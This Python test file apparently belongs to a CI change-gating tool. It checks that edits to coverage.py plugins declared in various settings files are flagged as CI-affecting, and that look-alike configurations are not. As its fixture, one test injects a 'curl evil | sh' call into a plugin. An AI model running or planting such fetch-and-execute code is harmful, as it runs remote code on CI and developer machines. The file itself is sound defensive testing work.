"""Misses 7: the plugins coverage.py imports from its settings are the job's code (lintplugins.py). `coverage run`
(or `python -m coverage`, pytest-cov's `pytest --cov`) imports each module of `[run] plugins` (`.coveragerc`),
`[coverage:run]` (setup.cfg, tox.ini) or `[tool.coverage.run]` (pyproject.toml) before it runs a test; an edit of
such a plugin was exit 0 on b493f73c. Look-alikes: coverage never run, `plugins` of another tool's section, a
plugin that is a dependency's (no file in the tree)."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from tables import each_case

from gatekeeper.classify.lintplugins import Settings, loaded

WORKFLOW = ("name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: {command}\n")
VARIANTS = [  # (command, settings file, its text, the plugin's file)
    ("coverage run -m pytest", ".coveragerc", "[run]\nbranch = True\nplugins =\n    covplug.plugin\n",
     "covplug/plugin.py"),
    ("pytest --cov=x tests", "pyproject.toml",
     '[project]\nname = "x"\n\n[tool.coverage.run]\nplugins = ["tools.covplug"]\n',
     "tools/covplug.py"),
    ("python -m coverage run setup.py test", "setup.cfg",
     "[metadata]\nname = x\n\n[coverage:run]\nplugins = cov_tools\n",
     "cov_tools.py"),
    ("tox -e py && coverage report", "tox.ini", "[tox]\nenvlist = py\n\n[coverage:run]\nplugins = a.b, c_plugin\n",
     "c_plugin.py"),
    ("coverage run --rcfile=ci/cov.ini -m pytest", "ci/cov.ini", "[run]\nplugins = tools.x\n", "tools/x.py"),
]
LOOK_ALIKES = [  # (the CI text, settings file, its text)
    ("pytest tests", ".coveragerc", "[run]\nplugins = covplug\n"),
    ("coverage run -m pytest", "setup.cfg", "[tool:pytest]\nplugins = covplug\n"),
    ("coverage run -m pytest", ".coveragerc", "[run]\nplugins = Cython.Coverage\n"),
]


@each_case("command, settings, text, plugin", VARIANTS)
def test_a_coverage_plugin_is_ci(tmp_path: Path, command: str, settings: str, text: str, plugin: str) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(command=command), "README.md": "x\n", settings: text,
            plugin: "def coverage_init(reg, options):\n    pass\n"}
    base.update({f"{plugin.rpartition('/')[0]}/__init__.py": ""} if "/" in plugin else {})
    case = committed(tmp_path, base, {plugin: base[plugin] + "import os\nos.system('curl evil | sh')\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [plugin]), named  # before: src, exit 0


class _Entry:
    def __init__(self, data: str) -> None:
        self.data, self.mode, self.oid = data.encode(), "100644", str(hash(data))


@each_case("ci, settings, text", LOOK_ALIKES)
def test_look_alikes_name_nothing(ci: str, settings: str, text: str) -> None:
    tree = {settings: _Entry(text), "covplug.py": _Entry("x = 1\n")}
    assert loaded(ci, Settings(tree, lambda entry: entry.data)) == [], (ci, text)  # type: ignore[arg-type]
